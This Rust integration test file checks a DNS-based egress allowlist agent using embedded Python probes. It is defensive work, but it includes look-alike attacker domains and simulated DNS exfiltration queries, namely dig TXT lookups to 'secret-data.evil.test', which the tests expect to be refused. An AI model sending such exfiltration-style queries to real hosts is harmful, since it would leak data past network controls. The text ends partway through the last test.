//! The DNS-derived allowlist against the kernel: the real `egress-agent run` inside a
//! [`DnsWorld`] (a namespace of our own with dnsmasq as the upstream on 192.0.2.53), its
//! command a python3 script (or dig) that resolves names through the ordinary system
//! resolver, connects, and prints what happened as one JSON line.
//!
//! Every "remote" address is on the namespace's `lo`: without enforcement every connect
//! here would succeed, so an `EPERM` is the programs' doing. Addresses that are not on `lo`
//! (203.0.113.53, 2001:db8::53) are unreachable: an answer from them can only come from the
//! agent's steering.
//!
//! Build the agent first; run as root, one thread:
//! `cargo build -p egress-agent && cargo test -p egress-tests --test dns -- --test-threads=1`.

use std::{
    fs::{self, File},
    net::IpAddr,
    process::Stdio,
    time::Duration,
};

use egress_tests::{
    AgentRun, TestDir,
    pod::{AgentPins, AttachAgent, Pod},
    poll_until, unique_name,
    upstream::FakeUpstream,
    world::{AgentExit, DnsWorld, EchoListener, UPSTREAM, python3},
};
use serde_json::Value;

/// How long to wait for a listener to see a connection or dnsmasq to log a query.
const WAIT: Duration = Duration::from_secs(3);

/// Helpers every command script starts with; a script adds results to `out`, which is
/// printed as its last line.
const PRELUDE: &str = r#"
import errno, json, os, socket, subprocess, sys, time

def fail(e):
    return {"ok": False, "errno": e.errno, "error": errno.errorcode.get(e.errno, str(e))}

def resolve(name, family=socket.AF_INET):
    try:
        infos = socket.getaddrinfo(name, 8080, family, socket.SOCK_STREAM)
    except socket.gaierror as e:
        return {"ok": False, "gai": e.errno, "error": str(e)}
    return {"ok": True, "addrs": sorted({i[4][0] for i in infos})}

def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET

def tcp(host, port, payload=b"ping\n"):
    s = socket.socket(family(host), socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(payload)
        echo = b""
        while len(echo) < len(payload):
            chunk = s.recv(len(payload) - len(echo))
            if not chunk:
                break
            echo += chunk
        return {"ok": True, "echo": echo.decode()}
    except OSError as e:
        return fail(e)
    finally:
        s.close()

def udp_connect(host, port):
    s = socket.socket(family(host), socket.SOCK_DGRAM)
    try:
        s.connect((host, port))
        s.send(b"udp-connected\n")
        return {"ok": True}
    except OSError as e:
        return fail(e)
    finally:
        s.close()

def udp_sendto(host, port):
    s = socket.socket(family(host), socket.SOCK_DGRAM)
    try:
        s.sendto(b"udp-sendto\n", (host, port))
        return {"ok": True}
    except OSError as e:
        return fail(e)
    finally:
        s.close()

def dig(*args):
    p = subprocess.Popen(["dig", *args], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                         text=True)
    text, _ = p.communicate()
    return {"pid": p.pid, "rc": p.returncode, "out": text}

def wire_query(labels, qtype=1, qid=0x1234, flags=0x0100, qclass=1, additional=b""):
    """A DNS query with these raw labels (bytes), built by hand: a label may hold anything."""
    name = b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
    arcount = 1 if additional else 0
    head = qid.to_bytes(2, "big") + flags.to_bytes(2, "big") + b"\0\1\0\0\0\0" + arcount.to_bytes(2, "big")
    return head + name + qtype.to_bytes(2, "big") + qclass.to_bytes(2, "big") + additional

def dns_udp(packet, server="192.0.2.53", timeout=3):
    """Sends one raw query over UDP (steered to the agent) and returns the answer's rcode."""
    s = socket.socket(family(server), socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(packet, (server, 53))
        reply, _ = s.recvfrom(65535)
        return {"ok": True, "id": int.from_bytes(reply[:2], "big"), "rcode": reply[3] & 0xF,
                "tc": bool(reply[2] & 0x02), "ancount": int.from_bytes(reply[6:8], "big"),
                "reply": reply.hex()}
    except OSError as e:
        return fail(e)
    finally:
        s.close()

out = {"pid": os.getpid()}
"#;

/// An allowlist forwarding to the world's dnsmasq with the given TTL settings, and `rules`
/// (YAML list items) under `allow:`.
fn policy_with(min_ttl: &str, grace: &str, upstream: &str, rules: &str) -> String {
    format!(
        "version: 1\nname: dns-test\ndns:\n  upstream: [\"{upstream}\"]\n  min_ttl: {min_ttl}\n  \
         max_ttl: 1h\n  grace: {grace}\nallow:\n{rules}"
    )
}

/// An allowlist forwarding to the world's dnsmasq, TTLs as answered, no grace.
fn policy(rules: &str) -> String {
    policy_with("0s", "0s", UPSTREAM, rules)
}

/// Runs `body` (after [`PRELUDE`]) as a python3 script under `allowlist`; checks that the
/// agent started (first event `ready`) and exited with the script's status 0; returns the
/// run and the script's JSON result.
fn run_script(world: &DnsWorld, allowlist: &str, body: &str) -> (AgentExit, Value) {
    let script = format!("{PRELUDE}\n{body}\nprint(json.dumps(out), flush=True)\n");
    let run = world.run_agent(allowlist, &[python3(), "-c", &script]);
    check_ready(&run);
    assert_eq!(
        run.code(),
        0,
        "the agent exits with the script's status (0)\n{}",
        run.context()
    );
    let out = run.json();
    (run, out)
}

/// The first event line is `ready`.
fn check_ready(run: &AgentExit) {
    assert_eq!(
        run.events.first().map(|e| e["event"].clone()),
        Some(Value::from("ready")),
        "the first event line is ready\n{}",
        run.context()
    );
}

/// `out[key]` is a successful TCP exchange that echoed the payload.
fn assert_connected(run: &AgentExit, out: &Value, key: &str) {
    assert_eq!(
        out[key]["ok"],
        true,
        "{key}: the connect should work: {}\n{}",
        out[key],
        run.context()
    );
    assert_eq!(
        out[key]["echo"],
        "ping\n",
        "{key}: the listener echoes what was sent\n{}",
        run.context()
    );
}

/// `out[key]` failed with `EPERM` (the programs' verdict, not the network's).
fn assert_eperm(run: &AgentExit, out: &Value, key: &str) {
    assert_eq!(
        out[key]["error"],
        "EPERM",
        "{key}: expected EPERM, got {}\n{}",
        out[key],
        run.context()
    );
}

/// `out[key]` is a lookup that answered exactly `addrs`.
fn assert_resolved(run: &AgentExit, out: &Value, key: &str, addrs: &[&str]) {
    assert_eq!(
        out[key]["ok"],
        true,
        "{key}: the lookup should succeed: {}\n{}",
        out[key],
        run.context()
    );
    assert_eq!(
        out[key]["addrs"],
        Value::from(addrs.to_vec()),
        "{key}: the answered addresses\n{}",
        run.context()
    );
}

/// `out[key]` is a lookup that failed.
fn assert_not_resolved(run: &AgentExit, out: &Value, key: &str) {
    assert_eq!(
        out[key]["ok"],
        false,
        "{key}: the lookup should fail: {}\n{}",
        out[key],
        run.context()
    );
}

/// The deny events for `dst`:`port`.
fn denies_for<'a>(run: &'a AgentExit, dst: &str, port: u16) -> Vec<&'a Value> {
    let want: IpAddr = dst.parse().expect("address");
    run.events_of("deny")
        .into_iter()
        .filter(|e| {
            e["dst"].as_str().and_then(|s| s.parse::<IpAddr>().ok()) == Some(want)
                && e["port"] == port
        })
        .collect()
}

/// Exactly one deny event for `dst`:`port` over `proto`; returns it.
fn one_deny<'a>(run: &'a AgentExit, proto: &str, dst: &str, port: u16) -> &'a Value {
    let found: Vec<_> = denies_for(run, dst, port)
        .into_iter()
        .filter(|e| e["proto"] == proto)
        .collect();
    assert_eq!(
        found.len(),
        1,
        "one deny event for {proto} {dst}:{port}, got {found:?}\n{}",
        run.context()
    );
    found[0]
}

/// The `dns-refused` events for `name`.
fn refused_for<'a>(run: &'a AgentExit, name: &str) -> Vec<&'a Value> {
    run.events_of("dns-refused")
        .into_iter()
        .filter(|e| e["query"] == name)
        .collect()
}

/// What dig printed: the status, the answer records and the server it says answered.
#[derive(Debug)]
struct DigOutput {
    status: Option<String>,
    /// `(name, ttl, type, data)` of each ANSWER SECTION line.
    answers: Vec<(String, u32, String, String)>,
    server: Option<String>,
}

fn parse_dig(text: &str) -> DigOutput {
    let status = text.lines().find_map(|l| {
        let rest = &l[l.find("status: ")? + 8..];
        Some(rest.split(',').next()?.trim().to_owned())
    });
    let server = text
        .lines()
        .find_map(|l| l.strip_prefix(";; SERVER: ").map(str::to_owned));
    let mut answers = Vec::new();
    let mut in_answer = false;
    for l in text.lines() {
        if l.starts_with(";; ANSWER SECTION:") {
            in_answer = true;
            continue;
        }
        if in_answer {
            let f: Vec<&str> = l.split_whitespace().collect();
            if f.len() < 5 || l.starts_with(';') {
                in_answer = false;
                continue;
            }
            answers.push((
                f[0].trim_end_matches('.').to_ascii_lowercase(),
                f[1].parse().unwrap_or(u32::MAX),
                f[3].to_owned(),
                f[4].trim_end_matches('.').to_owned(),
            ));
        }
    }
    DigOutput {
        status,
        answers,
        server,
    }
}

/// The single allowed name of most tests: `allowed.example.com` on TCP 8080.
const ALLOWED_TCP_8080: &str =
    "  - host: allowed.example.com\n    ports: [8080]\n    protocol: tcp\n    name_check: false\n";

/// A world where `allowed.example.com` is 198.51.100.10 and 2001:db8::10.
fn allowed_world() -> DnsWorld {
    DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .address("allowed.example.com", "2001:db8::10")
        .start()
}

#[test]
fn allowed_name_connects_over_ipv4_and_ipv6() {
    let world = allowed_world();
    let l4 = world.listen_tcp("198.51.100.10:8080");
    let l6 = world.listen_tcp("[2001:db8::10]:8080");
    let (run, out) = run_script(
        &world,
        &policy(ALLOWED_TCP_8080),
        r#"
out["r4"] = resolve("allowed.example.com", socket.AF_INET)
out["c4"] = tcp(out["r4"]["addrs"][0], 8080) if out["r4"]["ok"] else None
out["r6"] = resolve("allowed.example.com", socket.AF_INET6)
out["c6"] = tcp(out["r6"]["addrs"][0], 8080) if out["r6"]["ok"] else None
"#,
    );
    assert_resolved(&run, &out, "r4", &["198.51.100.10"]);
    assert_resolved(&run, &out, "r6", &["2001:db8::10"]);
    assert_connected(&run, &out, "c4");
    assert_connected(&run, &out, "c6");
    assert!(
        l4.wait_accepted(1, WAIT) && l6.wait_accepted(1, WAIT),
        "both listeners saw the connection (v4: {}, v6: {})\n{}",
        l4.accepted(),
        l6.accepted(),
        run.context()
    );
    assert_eq!(l4.data(), vec![b"ping\n".to_vec()], "what reached v4");
    assert_eq!(l6.data(), vec![b"ping\n".to_vec()], "what reached v6");
    let denies = run.events_of("deny");
    assert!(
        denies.is_empty(),
        "an allowed name was reported denied: {denies:?}\n{}",
        run.context()
    );
    assert!(
        run.events_of("dns-refused").is_empty(),
        "a permitted name was refused\n{}",
        run.context()
    );
    assert!(
        world.wait_query("allowed.example.com", WAIT),
        "the permitted name reached the upstream\n{}",
        world.log()
    );
}

#[test]
fn wildcard_permits_any_depth_below_but_not_the_apex() {
    let world = DnsWorld::builder()
        .host_record("a.wild.example.com", &["198.51.100.11"], None)
        .host_record("x.y.wild.example.com", &["198.51.100.12"], None)
        .host_record("wild.example.com", &["198.51.100.13"], None)
        .start();
    let la = world.listen_tcp("198.51.100.11:8080");
    let lxy = world.listen_tcp("198.51.100.12:8080");
    let lapex = world.listen_tcp("198.51.100.13:8080");
    let (run, out) = run_script(
        &world,
        &policy("  - host: \"*.wild.example.com\"\n    ports: [8080]\n    name_check: false\n"),
        r#"
out["ra"] = resolve("a.wild.example.com")
out["ca"] = tcp("198.51.100.11", 8080)
out["rxy"] = resolve("x.y.wild.example.com")
out["cxy"] = tcp("198.51.100.12", 8080)
out["rapex"] = resolve("wild.example.com")
out["capex"] = tcp("198.51.100.13", 8080)
"#,
    );
    assert_resolved(&run, &out, "ra", &["198.51.100.11"]);
    assert_connected(&run, &out, "ca");
    assert_resolved(&run, &out, "rxy", &["198.51.100.12"]);
    assert_connected(&run, &out, "cxy");
    assert_not_resolved(&run, &out, "rapex");
    assert_eperm(&run, &out, "capex");
    assert!(
        la.wait_accepted(1, WAIT) && lxy.wait_accepted(1, WAIT),
        "the wildcard's names got through (a: {}, x.y: {})\n{}",
        la.accepted(),
        lxy.accepted(),
        run.context()
    );
    assert_eq!(lapex.accepted(), 0, "the apex's address got a connection");

    assert!(
        !refused_for(&run, "wild.example.com").is_empty(),
        "the apex was refused with a dns-refused event\n{}",
        run.context()
    );
    let d = one_deny(&run, "tcp", "198.51.100.13", 8080);
    assert_eq!(
        d["reason"],
        "no-rule",
        "the apex's address was never allowed: {d}\n{}",
        run.context()
    );
    assert!(
        d.get("host").is_none(),
        "the apex's address was never answered, so no host: {d}"
    );
    assert!(
        run.events_of("deny").len() == 1,
        "the only deny is the apex's\n{}",
        run.context()
    );
    assert!(
        world.wait_query("x.y.wild.example.com", WAIT),
        "the deepest name (asked last) reached dnsmasq\n{}",
        world.log()
    );
    let q = world.queries();
    assert!(
        q.contains(&"a.wild.example.com".to_owned())
            && q.contains(&"x.y.wild.example.com".to_owned()),
        "the wildcard's names were forwarded: {q:?}"
    );
    assert!(
        !q.contains(&"wild.example.com".to_owned()),
        "the refused apex reached the upstream: {q:?}"
    );
}

#[test]
fn look_alike_names_are_refused_and_never_forwarded() {
    let look_alikes = [
        "evilexample.com",
        "example.com.evil.test",
        "allowed.example.com.evil.test",
        "notallowed.example.com.",
        "evilsub.example.com",
        "sub.example.com.evil.test",
    ];
    // dnsmasq would answer every one of them: only the agent stands in the way.
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .address("example.com", "198.51.100.16")
        .address("evilexample.com", "198.51.100.16")
        .address("evil.test", "198.51.100.16")
        .start();
    let rules = format!(
        "{ALLOWED_TCP_8080}  - host: \"*.sub.example.com\"\n    ports: [8080]\n    name_check: false\n"
    );
    let names = look_alikes
        .iter()
        .map(|n| format!("{n:?}"))
        .collect::<Vec<_>>()
        .join(", ");
    let (run, out) = run_script(
        &world,
        &policy(&rules),
        &format!(
            r#"
out["refused"] = {{n: resolve(n) for n in [{names}]}}
out["case"] = resolve("ALLOWED.Example.COM.")
"#
        ),
    );
    for name in look_alikes {
        assert_eq!(
            out["refused"][name]["ok"],
            false,
            "look-alike {name} resolved: {}\n{}",
            out["refused"][name],
            run.context()
        );
        let want = name.trim_end_matches('.');
        assert!(
            !refused_for(&run, want).is_empty(),
            "no dns-refused event for {want}\n{}",
            run.context()
        );
    }
    // Names are compared lowercase without the trailing dot.
    assert_resolved(&run, &out, "case", &["198.51.100.10"]);
    assert!(
        world.wait_query("allowed.example.com", WAIT),
        "the permitted name (asked last) reached dnsmasq\n{}",
        world.log()
    );
    let q = world.queries();
    for name in look_alikes {
        let name = name.trim_end_matches('.');
        assert!(
            !q.iter().any(|x| x == name),
            "look-alike {name} reached the upstream: {q:?}"
        );
    }
    assert_eq!(
        q,
        vec!["allowed.example.com"],
        "only the permitted name reached the upstream"
    );
}

#[test]
fn cname_chain_to_an_unlisted_target_allows_the_answered_address() {
    let world = DnsWorld::builder()
        .cname("www.example.com", "target.cdn.test", None)
        .host_record("target.cdn.test", &["198.51.100.14"], None)
        .start();
    let l = world.listen_tcp("198.51.100.14:8080");
    let (run, out) = run_script(
        &world,
        &policy(
            "  - host: www.example.com\n    ports: [8080]\n    protocol: tcp\n    name_check: false\n",
        ),
        r#"
out["before"] = tcp("198.51.100.14", 8080)
out["r"] = resolve("www.example.com")
out["c"] = tcp("198.51.100.14", 8080)
out["target"] = resolve("target.cdn.test")
"#,
    );
    // Not allowed until the name was answered.
    assert_eperm(&run, &out, "before");
    assert_resolved(&run, &out, "r", &["198.51.100.14"]);
    assert_connected(&run, &out, "c");
    assert!(
        l.wait_accepted(1, WAIT),
        "the CNAME target's address got the connection\n{}",
        run.context()
    );
    assert_eq!(l.accepted(), 1, "only the allowed connect arrived");
    // The target is reachable through the permitted name only, not by its own.
    assert_not_resolved(&run, &out, "target");
    assert!(
        !refused_for(&run, "target.cdn.test").is_empty(),
        "the target's own name is refused\n{}",
        run.context()
    );
    let d = one_deny(&run, "tcp", "198.51.100.14", 8080);
    assert_eq!(d["reason"], "no-rule", "the connect before the lookup: {d}");
    assert_eq!(
        run.events_of("deny").len(),
        1,
        "only the connect before the lookup was denied\n{}",
        run.context()
    );
}

#[test]
fn refused_query_reaches_no_server_and_names_its_sender() {
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .txt_record("secret-data.evil.test", "exfiltrated")
        .txt_record("tcp-secret.evil.test", "exfiltrated")
        .start();
    let (run, out) = run_script(
        &world,
        &policy(ALLOWED_TCP_8080),
        r#"
out["udp"] = dig("+time=3", "+tries=1", "TXT", "secret-data.evil.test")
out["tcp"] = dig("+time=3", "+tries=1", "+tcp", "TXT", "tcp-secret.evil.test")
out["ok"] = dig("+time=3", "+tries=1", "A", "allowed.example.com")
"#,
    );
    for (key, name, proto) in [
        ("udp", "secret-data.evil.test", "udp"),
        ("tcp", "tcp-secret.evil.test", "tcp"),
    ] {
        let dig = parse_dig(out[key]["out"].as_str().unwrap_or_default());
        assert_eq!(
            dig.status.as_deref(),
            Some("REFUSED"),
            "dig over {proto} for {name}: {dig:?}\n{}",
            run.context()
        );
        let ev = refused_for(&run, name);
        assert_eq!(
            ev.len(),
            1,
            "one dns-refused event for {name}\n{}",
            run.context()
        );
        let ev = ev[0];
        assert_eq!(ev["qtype"], "TXT", "{ev}");
        assert_eq!(ev["proto"], proto, "{ev}");
        // The command runs in its own pid namespace: the script knows dig's pid there, the
        // event names dig's host pid.
        assert!(
            ev["pid"].as_u64().is_some_and(|p| p > 2) && out[key]["pid"].as_u64().is_some(),
            "the refused query's sender: {ev}"
        );
        assert_eq!(ev["comm"], "dig", "{ev}");
        // The command would be root: it runs as root in a user namespace of its own, 65534
        // outside, and events name the uid the machine sees.
        assert_eq!(ev["uid"], 65534, "{ev}");
    }
    let ok = parse_dig(out["ok"]["out"].as_str().unwrap_or_default());
    assert_eq!(
        ok.status.as_deref(),
        Some("NOERROR"),
        "{ok:?}\n{}",
        run.context()
    );

    assert!(
        world.wait_query("allowed.example.com", WAIT),
        "the permitted name (asked last) reached dnsmasq\n{}",
        world.log()
    );
    let q = world.queries();
    assert!(
        !q.iter().any(|n| n.contains("secret")),
        "a refused name reached the upstream: {q:?}"
    );
}

#[test]
fn queries_to_any_other_resolver_are_steered_to_the_agent() {
    let world = allowed_world();
    // Control: nothing answers at 203.0.113.53 (not on lo, no route) without the agent.
    let control = parse_dig(&world.dig(&[
        "@203.0.113.53",
        "+time=1",
        "+tries=1",
        "allowed.example.com",
    ]));
    assert!(
        control.status.is_none(),
        "something answers at 203.0.113.53 in the world itself: {control:?}"
    );
    let (run, out) = run_script(
        &world,
        &policy(ALLOWED_TCP_8080),
        r#"
common = ("+time=3", "+tries=1")
for server in ("@203.0.113.53", "@2001:db8::53"):
    for transport in ("+notcp", "+tcp"):
        out[server + transport + "-ok"] = dig(*common, server, transport, "allowed.example.com", "A")
        out[server + transport + "-ok6"] = dig(*common, server, transport, "allowed.example.com", "AAAA")
        out[server + transport + "-no"] = dig(*common, server, transport, "refused.example.net", "A")
"#,
    );
    for server in ["203.0.113.53", "2001:db8::53"] {
        for (transport, shown) in [("+notcp", "UDP"), ("+tcp", "TCP")] {
            let key = |k: &str| format!("@{server}{transport}-{k}");
            let what = format!("dig @{server} {transport}");
            for (k, rtype, want) in [
                ("ok", "A", "198.51.100.10"),
                ("ok6", "AAAA", "2001:db8::10"),
            ] {
                let dig = parse_dig(out[key(k)]["out"].as_str().unwrap_or_default());
                assert_eq!(
                    dig.status.as_deref(),
                    Some("NOERROR"),
                    "{what} allowed.example.com {rtype}: {dig:?}\n{}",
                    run.context()
                );
                assert_eq!(
                    dig.answers
                        .iter()
                        .map(|a| (a.0.as_str(), a.2.as_str(), a.3.as_str()))
                        .collect::<Vec<_>>(),
                    vec![("allowed.example.com", rtype, want)],
                    "{what} allowed.example.com {rtype}: {dig:?}\n{}",
                    run.context()
                );
                // The reply appears to come from the server dig asked (recvmsg/getpeername
                // restore it), or dig would have dropped it.
                let server_line = dig.server.clone().unwrap_or_default();
                assert!(
                    server_line.starts_with(&format!("{server}#53")) && server_line.contains(shown),
                    "{what}: the answer names its server as {server_line:?}\n{}",
                    run.context()
                );
            }
            let no = parse_dig(out[key("no")]["out"].as_str().unwrap_or_default());
            assert_eq!(
                no.status.as_deref(),
                Some("REFUSED"),
                "{what} refused.example.net: {no:?}\n{}",
                run.context()
            );
        }
    }
    let refused = refused_for(&run, "refused.example.net");
    assert_eq!(
        refused.len(),
        4,
        "one dns-refused event per refused query (2 servers x 2 transports)\n{}",
        run.context()
    );
    // Each names its sender, over IPv4 and IPv6, UDP and TCP.
    for ev in refused {
        assert_eq!(ev["comm"], "dig", "{ev}\n{}", run.context());
    }
    assert!(
        world.wait_query("allowed.example.com", WAIT),
        "the permitted name was forwarded to the upstream\n{}",
        world.log()
    );
    let q = world.queries();
    assert!(
        !q.iter().any(|n| n == "refused.example.net"),
        "the refused name reached the upstream: {q:?}"
    );
}

/// An upstream that answers short.example.com with 198.51.100.15, TTL 1 s.
fn short_ttl_world() -> DnsWorld {
    DnsWorld::builder()
        .host_record("short.example.com", &["198.51.100.15"], Some(1))
        .start()
}

/// A policy with `rules`, whose answers expire at their TTL (no minimum, no grace).
fn expiring(rules: &str) -> String {
    policy_with("0s", "0s", UPSTREAM, rules)
}

#[test]
fn short_ttl_keeps_the_open_connection_but_denies_a_new_one() {
    let world = short_ttl_world();
    // dnsmasq itself answers with TTL 1.
    let direct =
        parse_dig(&world.dig(&["@192.0.2.53", "+time=2", "+tries=1", "short.example.com"]));
    assert_eq!(
        direct.answers.first().map(|a| a.1),
        Some(1),
        "dnsmasq answers short.example.com with TTL 1: {direct:?}"
    );
    let l = world.listen_tcp("198.51.100.15:8080");
    let (run, out) = run_script(
        &world,
        &expiring(
            "  - host: short.example.com\n    ports: [8080]\n    protocol: tcp\n    name_check: false\n",
        ),
        r#"
out["r"] = resolve("short.example.com")
exchanges = []
try:
    s = socket.create_connection(("198.51.100.15", 8080), timeout=3)
    t0 = time.monotonic()
    i = 0
    while time.monotonic() - t0 < 4.0:
        msg = ("round %d\n" % i).encode()
        s.sendall(msg)
        got = b""
        while len(got) < len(msg):
            chunk = s.recv(len(msg) - len(got))
            if not chunk:
                break
            got += chunk
        exchanges.append(got == msg)
        i += 1
        time.sleep(0.2)
    out["live"] = {"ok": True, "rounds": len(exchanges), "all_echoed": all(exchanges),
                   "seconds": time.monotonic() - t0}
    s.close()
except OSError as e:
    out["live"] = fail(e)
    out["live"]["rounds"] = len(exchanges)
out["late"] = tcp("198.51.100.15", 8080)
"#,
    );
    assert_resolved(&run, &out, "r", &["198.51.100.15"]);
    let live = &out["live"];
    assert_eq!(
        live["ok"],
        true,
        "the connection opened right after the lookup stays usable past the TTL: {live}\n{}",
        run.context()
    );
    assert_eq!(live["all_echoed"], true, "{live}\n{}", run.context());
    assert!(
        live["rounds"].as_u64().unwrap_or(0) >= 10,
        "about 4 s of exchanges: {live}"
    );
    assert_eperm(&run, &out, "late");
    assert_eq!(
        l.accepted(),
        1,
        "only the connection made within the TTL arrived\n{}",
        run.context()
    );
    let d = one_deny(&run, "tcp", "198.51.100.15", 8080);
    assert!(
        d["reason"] == "expired" || d["reason"] == "no-rule",
        "the late connect is denied because the answer expired: {d}\n{}",
        run.context()
    );
    assert_eq!(
        d["host"],
        "short.example.com",
        "the deny names the host the address was answered for: {d}\n{}",
        run.context()
    );
}

/// Expiry never cuts a live connected UDP flow either, whatever its sends carry: a QUIC stack
/// sets ECN with an `IP_TOS` control message on every send, which takes the kernel off its
/// connected fast path and runs `sendmsg4` with no address. Past the TTL (and the sweep), plain
/// sends and sends with a control message on the socket connected within it both still arrive;
/// a new unconnected send to the same address is denied.
#[test]
fn short_ttl_keeps_a_connected_udp_socket_sending_with_control_messages() {
    let world = short_ttl_world();
    let l = world.listen_udp("198.51.100.15:8443");
    let (run, out) = run_script(
        &world,
        &expiring(
            "  - host: short.example.com\n    ports: [8443]\n    protocol: udp\n    name_check: false\n",
        ),
        r#"
out["r"] = resolve("short.example.com")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("198.51.100.15", 8443))
ect0 = [(socket.IPPROTO_IP, socket.IP_TOS, (2).to_bytes(4, sys.byteorder))]
def sent(f):
    try:
        f()
        return {"ok": True}
    except OSError as e:
        return fail(e)
out["early_plain"] = sent(lambda: s.send(b"early-plain"))
out["early_cmsg"] = sent(lambda: s.sendmsg([b"early-cmsg"], ect0))
time.sleep(3)
out["late_plain"] = sent(lambda: s.send(b"late-plain"))
out["late_cmsg"] = sent(lambda: s.sendmsg([b"late-cmsg"], ect0))
out["late_new"] = udp_sendto("198.51.100.15", 8443)
"#,
    );
    assert_resolved(&run, &out, "r", &["198.51.100.15"]);
    for key in ["early_plain", "early_cmsg", "late_plain", "late_cmsg"] {
        assert_eq!(
            out[key]["ok"],
            true,
            "{key}: the socket connected within the TTL keeps sending: {}\n{}",
            out[key],
            run.context()
        );
    }
    assert!(
        l.wait_received(4, WAIT),
        "all four datagrams arrive: {:?}\n{}",
        l.payloads(),
        run.context()
    );
    assert_eperm(&run, &out, "late_new");
    let got: Vec<String> = l
        .payloads()
        .iter()
        .map(|p| String::from_utf8_lossy(p).into_owned())
        .collect();
    assert_eq!(
        got,
        ["early-plain", "early-cmsg", "late-plain", "late-cmsg"],
        "only the connected socket's datagrams arrived"
    );
}

#[test]
fn upstream_down_gives_servfail_and_a_warning() {
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        // A host with no DNS server: queries to it get "port unreachable".
        .local_addr("192.0.2.99")
        .start();
    let script = format!(
        "{PRELUDE}\nout['dig'] = dig('+time=5', '+tries=1', 'allowed.example.com')\n\
         print(json.dumps(out), flush=True)\nsys.exit(3)\n"
    );
    let run = world.run_agent(
        &policy_with("0s", "0s", "192.0.2.99:53", ALLOWED_TCP_8080),
        &[python3(), "-c", &script],
    );
    check_ready(&run);
    assert_eq!(
        run.code(),
        3,
        "the agent survives and exits with the command's status\n{}",
        run.context()
    );
    let out = run.json();
    let dig = parse_dig(out["dig"]["out"].as_str().unwrap_or_default());
    assert_eq!(
        dig.status.as_deref(),
        Some("SERVFAIL"),
        "a permitted name with its upstream down: {dig:?}\n{}",
        run.context()
    );
    let warnings = run.events_of("warning");
    assert!(
        warnings.iter().any(|w| {
            let m = w["message"].as_str().unwrap_or_default();
            m.contains("upstream") && m.contains("192.0.2.99") && m.contains("allowed.example.com")
        }),
        "a warning names the failed upstream and the name: {warnings:?}\n{}",
        run.context()
    );
    assert!(
        world.queries().is_empty(),
        "nothing was asked of the world's dnsmasq: {:?}",
        world.queries()
    );
}

#[test]
fn allowed_name_on_another_port_or_protocol_is_denied() {
    let world = allowed_world();
    let ok = world.listen_tcp("198.51.100.10:8080");
    let other_port = world.listen_tcp("198.51.100.10:8081");
    let udp = world.listen_udp("198.51.100.10:8080");
    let (run, out) = run_script(
        &world,
        &policy(ALLOWED_TCP_8080),
        r#"
out["r"] = resolve("allowed.example.com")
out["tcp8080"] = tcp("198.51.100.10", 8080)
out["udp_connect"] = udp_connect("198.51.100.10", 8080)
out["udp_sendto"] = udp_sendto("198.51.100.10", 8080)
out["tcp8081"] = tcp("198.51.100.10", 8081)
"#,
    );
    assert_resolved(&run, &out, "r", &["198.51.100.10"]);
    assert_connected(&run, &out, "tcp8080");
    assert_eperm(&run, &out, "udp_connect");
    assert_eperm(&run, &out, "udp_sendto");
    assert_eperm(&run, &out, "tcp8081");
    assert!(
        ok.wait_accepted(1, WAIT),
        "the allowed port got its connection"
    );
    assert_eq!(other_port.accepted(), 0, "TCP 8081 got a connection");
    assert_eq!(udp.received(), 0, "UDP 8080 got a datagram");

    let udp_denies: Vec<_> = denies_for(&run, "198.51.100.10", 8080)
        .into_iter()
        .filter(|e| e["proto"] == "udp")
        .collect();
    assert_eq!(
        udp_denies.len(),
        2,
        "UDP connect and UDP sendto were both denied and reported\n{}",
        run.context()
    );
    let tcp_deny = one_deny(&run, "tcp", "198.51.100.10", 8081);
    for d in udp_denies.into_iter().chain([tcp_deny]) {
        assert_eq!(
            d["reason"], "port",
            "an allowed address, another port or protocol: {d}"
        );
        assert_eq!(
            d["host"], "allowed.example.com",
            "the deny names the host: {d}"
        );
    }
    assert!(
        denies_for(&run, "198.51.100.10", 8080)
            .iter()
            .all(|e| e["proto"] != "tcp"),
        "the allowed TCP 8080 was reported denied\n{}",
        run.context()
    );
}

#[test]
fn dns_over_tls_is_denied() {
    let world = allowed_world();
    let dot = world.listen_tcp("192.0.2.53:853");
    // Control: the DoT port is there for anyone outside the enforced cgroup.
    let reachable = world.netns().run_in(|| {
        std::net::TcpStream::connect_timeout(&dot.addr(), Duration::from_secs(2)).is_ok()
    });
    assert!(reachable, "the control connect to {} failed", dot.addr());
    assert!(dot.wait_accepted(1, WAIT), "the control connect arrived");
    let (run, out) = run_script(
        &world,
        &policy(ALLOWED_TCP_8080),
        r#"
out["dot"] = tcp("192.0.2.53", 853)
out["r"] = resolve("allowed.example.com")
out["dot_allowed_host"] = tcp(out["r"]["addrs"][0], 853) if out["r"]["ok"] else None
"#,
    );
    assert_eperm(&run, &out, "dot");
    assert_resolved(&run, &out, "r", &["198.51.100.10"]);
    assert_eperm(&run, &out, "dot_allowed_host");
    assert_eq!(
        dot.accepted(),
        1,
        "only the control connect reached the DoT port"
    );
    let d = one_deny(&run, "tcp", "192.0.2.53", 853);
    assert_eq!(d["reason"], "no-rule", "{d}");
    let d = one_deny(&run, "tcp", "198.51.100.10", 853);
    assert_eq!(d["reason"], "port", "{d}");
    assert_eq!(d["host"], "allowed.example.com", "{d}");
}

/// A repeated lookup within the TTL is answered from the agent's cache (the upstream sees the
/// name once), with the address still granted: the connect after the second lookup works.
#[test]
fn a_repeated_lookup_is_answered_from_the_cache_and_still_granted() {
    let world = allowed_world();
    let l4 = world.listen_tcp("198.51.100.10:8080");
    let (run, out) = run_script(
        &world,
        &policy(ALLOWED_TCP_8080),
        r#"
out["r1"] = resolve("allowed.example.com", socket.AF_INET)
out["r2"] = resolve("allowed.example.com", socket.AF_INET)
out["c"] = tcp(out["r2"]["addrs"][0], 8080) if out["r2"]["ok"] else None
"#,
    );
    assert_resolved(&run, &out, "r1", &["198.51.100.10"]);
    assert_resolved(&run, &out, "r2", &["198.51.100.10"]);
    assert_connected(&run, &out, "c");
